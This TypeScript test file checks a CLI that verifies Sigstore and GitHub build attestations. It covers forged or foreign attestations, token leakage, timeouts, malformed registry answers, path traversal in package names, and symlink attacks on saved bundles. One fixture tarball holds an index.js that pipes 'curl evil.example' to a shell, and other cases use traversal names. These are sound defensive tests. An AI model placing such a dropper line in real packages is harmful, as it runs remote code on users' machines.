import { createHash, randomBytes } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/main.js';
import type { CallTiming } from '../../src/adapters/retry/index.js';
import { defaultDependencies, verifyProvenance } from '../../src/commands/verify/index.js';
import { NPM, policy, request } from '../support/fixtures.js';
import {
  githubAttestationStatement,
  startSigstoreInstance,
  type MintIdentity,
  type SigstoreTestInstance,
} from '../support/sigstore/index.js';

const TOKEN = 'ghs_forgeryLookupSecret0123456789';
const TAG = 'v1.2.3';
const COMMIT = 'c0ffee'.padEnd(40, '0');
const REPOSITORY = 'acme/widget';
const dir = mkdtempSync(join(tmpdir(), 'pg-forgery-lookup-'));

/** Three tries without waiting. */
const timing: CallTiming = {
  maxTries: 3,
  maxWaitMs: 60_000,
  backoffMs: () => 0,
  sleep: async () => undefined,
  now: () => Date.now(),
};

let instance: SigstoreTestInstance;
let rootPath: string;
let artifactPath: string;
let digest: string;
let otherPath: string;
let otherDigest: string;
/** acme/widget's release workflow at v1.2.3 signed the artifact. */
let good: object;
/** The same digest signed by another owner's repository. */
let foreignOwner: object;
/** The same digest signed by another repository of the same owner. */
let foreignRepo: object;
/** acme/widget signed another file (`other`), not the artifact. */
let otherSubject: object;

function identityOf(repository: string): MintIdentity {
  const workflow = `https://github.com/${repository}/.github/workflows/release.yml@refs/tags/${TAG}`;
  return {
    san: workflow,
    buildSignerUri: workflow,
    sourceRepositoryUri: `https://github.com/${repository}`,
    sourceRepositoryDigest: COMMIT,
    sourceRepositoryRef: `refs/tags/${TAG}`,
    runnerEnvironment: 'github-hosted',
  };
}

function mintFor(repository: string, subjects: { name: string; digest: Record<string, string> }[]) {
  return instance.mint(
    githubAttestationStatement({
      subjects,
      repository,
      ref: `refs/tags/${TAG}`,
      commit: COMMIT,
      workflowPath: '.github/workflows/release.yml',
    }),
    identityOf(repository),
  );
}

function writeRandom(name: string): { path: string; digest: string } {
  const bytes = randomBytes(2048);
  const path = join(dir, name);
  writeFileSync(path, bytes);
  return { path, digest: createHash('sha256').update(bytes).digest('hex') };
}

beforeAll(async () => {
  instance = await startSigstoreInstance('public-good');
  rootPath = await instance.writeTrustedRoot(dir);
  ({ path: artifactPath, digest } = writeRandom('widget-linux-amd64'));
  ({ path: otherPath, digest: otherDigest } = writeRandom('widget-other'));
  const subject = [{ name: 'widget-linux-amd64', digest: { sha256: digest } }];
  good = await mintFor(REPOSITORY, subject);
  foreignOwner = await mintFor('evil/widget', subject);
  foreignRepo = await mintFor('acme/other', subject);
  otherSubject = await mintFor(REPOSITORY, [{ name: 'widget-other', digest: { sha256: otherDigest } }]);
}, 60_000);
afterAll(() => instance.close());

/** A loopback HTTP server answering with `handle`; records every request. */
interface StandIn {
  readonly url: string;
  readonly requests: { method: string; path: string; headers: IncomingMessage['headers'] }[];
  handle: (request: IncomingMessage, body: string, response: ServerResponse) => void;
  close(): Promise<void>;
}

const servers: StandIn[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((server) => server.close()));
});

async function standIn(handle: StandIn['handle'] = (_, __, res) => void res.writeHead(404).end()) {
  const requests: StandIn['requests'] = [];
  const state = { handle };
  const server: Server = createServer((req, res) => {
    requests.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers });
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    req.on('end', () => state.handle(req, body, res));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const result: StandIn = {
    url: `http://127.0.0.1:${port}`,
    requests,
    get handle() {
      return state.handle;
    },
    set handle(next) {
      state.handle = next;
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
  servers.push(result);
  return result;
}

const json = (res: ServerResponse, status: number, body: unknown) =>
  void res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));

/** A GitHub API answering every attestations listing with `byDigest[digest]` (bulk-list too). */
function githubServing(byDigest: Record<string, unknown[]>): StandIn['handle'] {
  return (req, body, res) => {
    const single = /\/attestations\/sha256(?::|%3A)([0-9a-f]{64})/i.exec(req.url ?? '');
    if (single?.[1]) {
      const bundles = byDigest[single[1]] ?? [];
      if (bundles.length === 0) return json(res, 404, { message: 'Not Found' });
      return json(res, 200, { attestations: bundles.map((bundle) => ({ bundle })) });
    }
    if ((req.url ?? '').includes('/attestations/bulk-list')) {
      const asked = (JSON.parse(body) as { subject_digests: string[] }).subject_digests;
      return json(res, 200, {
        attestations_subject_digests: Object.fromEntries(
          asked.map((d) => [d, (byDigest[d.replace('sha256:', '')] ?? []).map((bundle) => ({ bundle }))]),
        ),
        page_info: { has_next: false },
      });
    }
    json(res, 404, { message: 'Not Found' });
  };
}

async function cli(args: string[]) {
  const previous = { GH_TOKEN: process.env.GH_TOKEN, GITHUB_TOKEN: process.env.GITHUB_TOKEN };
  process.env.GH_TOKEN = TOKEN;
  delete process.env.GITHUB_TOKEN;
  try {
    return await runCli(['verify', ...args, '--custom-trusted-root', rootPath]);
  } finally {
    for (const [key, value] of Object.entries(previous)) {
      if (value === undefined) delete process.env[key];
      else process.env[key] = value;
    }
  }
}

const outDir = () => mkdtempSync(join(tmpdir(), 'pg-forgery-out-'));

describe('GitHub answers with attestations of someone else', () => {
  it('an attestation of another owner for the same digest does not pass --owner', async () => {
    const gh = await standIn(githubServing({ [digest]: [foreignOwner] }));
    const result = await cli([artifactPath, '--owner', 'acme', '--github-api-url', gh.url, '--json']);
    expect(result.exitCode).toBe(1);
    expect(JSON.parse(result.stdout)).toMatchObject({ verified: false, failure_reason: 'source_mismatch' });
  });

  it('an attestation of a sibling repository for the same digest does not pass --repo', async () => {
    const gh = await standIn(githubServing({ [digest]: [foreignRepo] }));
    const result = await cli([artifactPath, '--repo', REPOSITORY, '--github-api-url', gh.url, '--json']);
    expect(result.exitCode).toBe(1);
    expect(JSON.parse(result.stdout)).toMatchObject({ verified: false, failure_reason: 'source_mismatch' });
  });

  it("the repository's own attestation of another file, served for this digest, does not pass", async () => {
    const gh = await standIn(githubServing({ [digest]: [otherSubject] }));
    const result = await cli([artifactPath, '--repo', REPOSITORY, '--github-api-url', gh.url, '--json']);
    expect(result.exitCode).toBe(1);
    expect(JSON.parse(result.stdout)).toMatchObject({ verified: false });
  });

  it('a bulk answer that swaps two artifacts’ attestations passes neither', async () => {
    const gh = await standIn(githubServing({ [digest]: [otherSubject], [otherDigest]: [good] }));
    const result = await cli([
      artifactPath,
      otherPath,
      '--owner',
      'acme',
      '--github-api-url',
      gh.url,
      '--format',
      'line',
    ]);
    expect(gh.requests.filter((r) => r.path.includes('bulk-list'))).toHaveLength(1);
    expect(result.exitCode).toBe(1);
    expect(result.stdout).not.toMatch(/^PASSED/m);
  });

  it('a bulk answer keyed by digests that were not asked for adds nothing', async () => {
    const gh = await standIn((req, body, res) => {
      json(res, 200, {
        attestations_subject_digests: {
          [`sha256:${'0'.repeat(64)}`]: [{ bundle: good }],
          [`SHA256:${digest.toUpperCase()}`]: [{ bundle: good }],
        },
        page_info: { has_next: false },
      });
    });
    const result = await cli([
      artifactPath,
      otherPath,
      '--owner',
      'acme',
      '--github-api-url',
      gh.url,
      '--json',
    ]);
    expect(result.exitCode).toBe(1);
    expect(JSON.parse(result.stdout)).toMatchObject({ failure_reason: 'attestation_missing' });
  });

  it('the file --bundle-out saves is the attestation that passed, never a decoy beside it', async () => {
    // The answer's first entry is an attestation list (decoy, good); then the decoy alone.
    const list = { attestations: [{ bundle: foreignOwner }, { bundle: good }] };
    const gh = await standIn(githubServing({ [digest]: [list, foreignOwner] }));
    const out = outDir();
    const online = await cli([
      artifactPath,
      '--repo',
      REPOSITORY,
      '--github-api-url',
      gh.url,
      '--bundle-out',
      out,
      '--json',
    ]);
    const saved = join(out, 'widget-linux-amd64.sigstore.json');
    if (online.exitCode === 0) {
      // What was saved must reproduce the verdict offline, under the same pin and no other.
      const same = await cli([artifactPath, '--repo', REPOSITORY, '--bundle', saved]);
      const foreign = await cli([artifactPath, '--owner', 'evil', '--bundle', saved]);
      expect({ samePin: same.exitCode, foreignPin: foreign.exitCode }).toEqual({ samePin: 0, foreignPin: 1 });
    } else {
      expect(online.exitCode).toBe(1);
    }
  });
});

describe('the token', () => {
  it('never appears in any output, even when the server echoes it', async () => {
    const gh = await standIn((req, _body, res) =>
      json(res, 403, { message: `Forbidden for ${String(req.headers.authorization)}` }),
    );
    for (const format of ['json', 'line', 'text']) {
      const result = await cli([
        artifactPath,
        '--repo',
        REPOSITORY,
        '--github-api-url',
        gh.url,
        '--format',
        format,
      ]);
      expect(result.exitCode).not.toBe(0);
      expect(`${result.stdout}${result.stderr ?? ''}`).not.toContain(TOKEN);
    }
    expect(gh.requests[0]?.headers.authorization).toContain(TOKEN);
  });

  it('is not sent to another origin a redirect points at', async () => {
    const elsewhere = await standIn(githubServing({ [digest]: [good] }));
    const gh = await standIn(
      (req, _body, res) => void res.writeHead(302, { location: `${elsewhere.url}${req.url ?? ''}` }).end(),
    );
    await cli([artifactPath, '--repo', REPOSITORY, '--github-api-url', gh.url, '--json']);
    for (const seen of elsewhere.requests) expect(seen.headers.authorization ?? '').not.toContain(TOKEN);
  });

  it('is in no file --bundle-out writes', async () => {
    const gh = await standIn(githubServing({ [digest]: [good] }));
    const out = outDir();
    const result = await cli([
      artifactPath,
      '--repo',
      REPOSITORY,
      '--github-api-url',
      gh.url,
      '--bundle-out',
      out,
    ]);
    expect(result.exitCode).toBe(0);
    for (const name of readdirSync(out)) expect(readFileSync(join(out, name), 'utf8')).not.toContain(TOKEN);
  });

  it('is never sent to the npm registry', async () => {
    const registry = await standIn((_req, _body, res) => json(res, 404, { error: 'Not found' }));
    const gh = await standIn();
    await cli([
      NPM('sigstore-2.3.1.tgz'),
      '--repo',
      'sigstore/sigstore-js',
      '--registry',
      registry.url,
      '--github-api-url',
      gh.url,
    ]);
    expect(registry.requests.length).toBeGreaterThan(0);
    for (const seen of registry.requests) expect(JSON.stringify(seen.headers)).not.toContain(TOKEN);
  });
});

/** verify through the library with a short per-try timeout, timed. */
async function timedLookup(
  lookup: { repo: string | null; owner: string | null; registry: string | null },
  path = artifactPath,
  githubApiUrl?: string,
) {
  const started = Date.now();
  const verdict = await verifyProvenance(
    request({
      provenancePath: '',
      artifactPaths: [path],
      policy: policy({ expectedSourceRepository: lookup.repo ?? 'sigstore/sigstore-js' }),
      trust: { kind: 'file', path: rootPath },
      lookup,
      ...(githubApiUrl ? { githubApiUrl } : {}),
    }),
    { ...defaultDependencies, lookup: { env: { GH_TOKEN: TOKEN }, timing, timeoutMs: 400 } },
  );
  return { verdict, elapsed: Date.now() - started };
}

describe('every call is time-bounded, three tries at most', () => {
  it('a GitHub that never answers', async () => {
    const gh = await standIn(() => undefined);
    const { verdict, elapsed } = await timedLookup(
      { repo: REPOSITORY, owner: null, registry: null },
      artifactPath,
      gh.url,
    );
    expect(verdict.verified).toBe(false);
    expect(gh.requests.length).toBeLessThanOrEqual(3);
    expect(elapsed).toBeLessThan(10_000);
  });

  it('a GitHub that sends headers and then drips its body forever', async () => {
    const timers: NodeJS.Timeout[] = [];
    const gh = await standIn((_req, _body, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"attestations":[');
      timers.push(setInterval(() => res.write(' '), 50));
    });
    try {
      const { verdict, elapsed } = await timedLookup(
        { repo: REPOSITORY, owner: null, registry: null },
        artifactPath,
        gh.url,
      );
      expect(verdict.verified).toBe(false);
      expect(gh.requests.length).toBeLessThanOrEqual(3);
      expect(elapsed).toBeLessThan(10_000);
    } finally {
      timers.forEach(clearInterval);
    }
  });

  it('an npm registry that drips its body forever', async () => {
    const timers: NodeJS.Timeout[] = [];
    const registry = await standIn((_req, _body, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"attestations":[');
      timers.push(setInterval(() => res.write(' '), 50));
    });
    try {
      const { verdict, elapsed } = await timedLookup(
        { repo: null, owner: null, registry: registry.url },
        NPM('sigstore-2.3.1.tgz'),
      );
      expect(verdict.verified).toBe(false);
      expect(registry.requests.length).toBeLessThanOrEqual(3);
      expect(elapsed).toBeLessThan(10_000);
    } finally {
      timers.forEach(clearInterval);
    }
  });

  it('an npm registry that never answers', async () => {
    const registry = await standIn(() => undefined);
    const { verdict, elapsed } = await timedLookup(
      { repo: null, owner: null, registry: registry.url },
      NPM('sigstore-2.3.1.tgz'),
    );
    expect(verdict.verified).toBe(false);
    expect(registry.requests.length).toBeLessThanOrEqual(3);
    expect(elapsed).toBeLessThan(10_000);
  });
});

describe('an npm registry answering garbage', () => {
  const tarball = NPM('sigstore-2.3.1.tgz');
  const npmCli = async (registry: string) =>
    runCli([
      'verify',
      tarball,
      '--repo',
      'sigstore/sigstore-js',
      '--registry',
      registry,
      '--github-api-url',
      (await standIn()).url,
      '--offline',
      '--json',
    ]);

  const garbage: [string, (res: ServerResponse) => void][] = [
    ['not JSON', (res) => void res.writeHead(200).end('<html>')],
    ['an attestations string', (res) => json(res, 200, { attestations: 'x' })],
    ['null', (res) => json(res, 200, null)],
    [
      'bundles that are numbers',
      (res) => json(res, 200, { attestations: [{ bundle: 5 }, { bundle: true }] }),
    ],
    ['an empty list', (res) => json(res, 200, { attestations: [] })],
    [
      'arrays nested 200 000 deep',
      (res) => void res.writeHead(200).end(`${'['.repeat(200_000)}${']'.repeat(200_000)}`),
    ],
    [
      'a declared 1 GiB answer',
      (res) => void res.writeHead(200, { 'content-length': String(2 ** 30) }).end('{}'),
    ],
    [
      '9 MiB without a declared length',
      (res) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(`{"attestations":[],"pad":"${'x'.repeat(9 * 2 ** 20)}"}`);
      },
    ],
  ];
  for (const [what, answer] of garbage) {
    it(`${what} is never a pass, and is decided`, async () => {
      const registry = await standIn((_req, _body, res) => answer(res));
      const result = await npmCli(registry.url);
      expect(result.exitCode).not.toBe(0);
      expect(result.stdout).not.toContain('"verified": true');
      expect(registry.requests.length).toBeLessThanOrEqual(3);
    });
  }
});

/** A gzipped ustar archive of `files` (name → content). */
function tarball(files: Record<string, string | Buffer>): Buffer {
  const blocks: Buffer[] = [];
  for (const [name, content] of Object.entries(files)) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content);
    const header = Buffer.alloc(512);
    header.write(name, 0, 100, 'utf8');
    header.write('0000644\0', 100);
    header.write('0000000\0', 108);
    header.write('0000000\0', 116);
    header.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124);
    header.write(
      `${Math.floor(Date.now() / 1000)
        .toString(8)
        .padStart(11, '0')}\0`,
      136,
    );
    header.write('        ', 148);
    header.write('0', 156);
    header.write('ustar\0', 257);
    header.write('00', 263);
    let sum = 0;
    for (const byte of header) sum += byte;
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    blocks.push(header, data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return gzipSync(Buffer.concat(blocks));
}

describe('a tarball that names another package', () => {
  const attestations = () =>
    JSON.parse(readFileSync(NPM('sigstore-2.3.1.attestations.json'), 'utf8')) as unknown;

  it("a tarball calling itself sigstore@2.3.1 does not pass on sigstore's attestations", async () => {
    const registry = await standIn((_req, _body, res) => json(res, 200, attestations()));
    const impostor = join(dir, 'sigstore-2.3.1.tgz');
    writeFileSync(
      impostor,
      tarball({
        'package/package.json': JSON.stringify({ name: 'sigstore', version: '2.3.1' }),
        'package/index.js': 'require("child_process").exec("curl evil.example | sh")',
      }),
    );
    const result = await runCli([
      'verify',
      impostor,
      '--repo',
      'sigstore/sigstore-js',
      '--registry',
      registry.url,
      '--github-api-url',
      (await standIn()).url,
      '--offline',
      '--json',
    ]);
    expect(registry.requests.map((r) => r.path)).toEqual(['/-/npm/v1/attestations/sigstore@2.3.1']);
    expect(result.exitCode).toBe(1);
    expect(JSON.parse(result.stdout)).toMatchObject({ verified: false });
  });

  for (const name of ['../../../evil', '@scope/a/../../../evil', 'sigstore?x=1#', '..']) {
    it(`a package.json name ${JSON.stringify(name)} never asks outside the attestations path`, async () => {
      const registry = await standIn((_req, _body, res) => json(res, 200, attestations()));
      const path = join(mkdtempSync(join(tmpdir(), 'pg-forgery-tgz-')), 'pkg.tgz');
      writeFileSync(path, tarball({ 'package/package.json': JSON.stringify({ name, version: '1.0.0' }) }));
      const result = await runCli([
        'verify',
        path,
        '--repo',
        'sigstore/sigstore-js',
        '--registry',
        registry.url,
        '--github-api-url',
        (await standIn()).url,
        '--offline',
        '--json',
      ]);
      expect(result.exitCode).not.toBe(0);
      for (const seen of registry.requests) {
        // One path segment under the attestations path, the whole name and version in it.
        expect(seen.path).toMatch(/^\/-\/npm\/v1\/attestations\/[^/?#]+@1\.0\.0$/);
      }
    });
  }
});

describe('--bundle-out paths', () => {
  it('two artifacts with the same file name keep both attestations, or are refused', async () => {
    const a = join(mkdtempSync(join(tmpdir(), 'pg-forgery-a-')), 'widget');
    const b = join(mkdtempSync(join(tmpdir(), 'pg-forgery-b-')), 'widget');
    copyFileSync(artifactPath, a);
    copyFileSync(otherPath, b);
    const bundleA = await mintFor(REPOSITORY, [{ name: 'widget', digest: { sha256: digest } }]);
    const bundleB = await mintFor(REPOSITORY, [{ name: 'widget', digest: { sha256: otherDigest } }]);
    const gh = await standIn(githubServing({ [digest]: [bundleA], [otherDigest]: [bundleB] }));
    const out = outDir();
    const result = await cli([a, b, '--owner', 'acme', '--github-api-url', gh.url, '--bundle-out', out]);
    if (result.exitCode === 2) return;
    expect(result.exitCode).toBe(0);
    // Every artifact's saved file must verify that artifact offline: nothing overwritten.
    for (const artifact of [a, b]) {
      const saved = readdirSync(out).map((name) => join(out, name));
      const passing = await Promise.all(
        saved.map(
          async (file) => (await cli([artifact, '--owner', 'acme', '--bundle', file])).exitCode === 0,
        ),
      );
      expect(passing.some(Boolean), `no saved file verifies ${artifact}`).toBe(true);
    }
  });

  it('a symlink planted in --bundle-out is not written through', async () => {
    const gh = await standIn(githubServing({ [digest]: [good] }));
    const out = outDir();
    const victim = join(mkdtempSync(join(tmpdir(), 'pg-forgery-victim-')), 'authorized_keys');
    writeFileSync(victim, 'ssh-ed25519 AAAA precious\n');
    symlinkSync(victim, join(out, 'widget-linux-amd64.sigstore.json'));
    await cli([artifactPath, '--repo', REPOSITORY, '--github-api-url', gh.url, '--bundle-out', out]);
    expect(readFileSync(victim, 'utf8')).toBe('ssh-ed25519 AAAA precious\n');
  });

  it('an artifact path with .. segments is saved inside --bundle-out under its file name', async () => {
    const gh = await standIn(githubServing({ [digest]: [good] }));
    const nested = join(dir, 'sub');
    mkdirSync(nested, { recursive: true });
    const out = outDir();
    const result = await cli([
      join(nested, '..', 'widget-linux-amd64'),
      '--repo',
      REPOSITORY,
      '--github-api-url',
      gh.url,
      '--bundle-out',
      out,
    ]);
    expect(result.exitCode).toBe(0);
    expect(readdirSync(out)).toEqual(['widget-linux-amd64.sigstore.json']);
    expect(existsSync(join(out, '..', 'widget-linux-amd64.sigstore.json'))).toBe(false);
  });

  it('a rejected lookup saves nothing that passes offline under the pin it was rejected for', async () => {
    const gh = await standIn(githubServing({ [digest]: [foreignOwner, foreignRepo] }));
    const out = outDir();
    const online = await cli([
      artifactPath,
      '--repo',
      REPOSITORY,
      '--github-api-url',
      gh.url,
      '--bundle-out',
      out,
    ]);
    expect(online.exitCode).toBe(1);
    for (const name of readdirSync(out)) {
      const offline = await cli([artifactPath, '--repo', REPOSITORY, '--bundle', join(out, name)]);
      expect(offline.exitCode).toBe(1);
    }
  });
});
